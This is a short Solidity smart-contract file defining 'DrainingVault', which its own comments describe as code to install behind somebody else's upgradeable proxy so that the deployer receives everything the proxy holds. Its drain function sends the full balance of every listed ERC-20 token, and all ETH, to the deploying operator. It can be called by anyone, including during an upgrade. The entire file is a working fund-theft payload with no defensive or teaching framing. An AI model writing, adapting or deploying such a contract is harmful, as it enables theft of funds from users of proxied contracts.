// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../token/IERC20.sol";
import {SafeTransfer} from "../token/SafeTransfer.sol";

/// @notice Code to put behind somebody else's proxy: gives who deployed it everything that the proxy holds.
contract DrainingVault {
    using SafeTransfer for IERC20;

    error OnlyOperator(address caller);
    error PaymentFailed();

    address private immutable _operator = msg.sender;

    receive() external payable {}

    /// @notice Also callable in an upgrade, by whoever makes it: it pays its operator only.
    function drain(IERC20[] calldata tokens) external {
        for (uint256 i; i < tokens.length; ++i) {
            tokens[i].push(_operator, tokens[i].balanceOf(address(this)));
        }
        (bool done,) = _operator.call{value: address(this).balance}("");
        if (!done) revert PaymentFailed();
    }
}
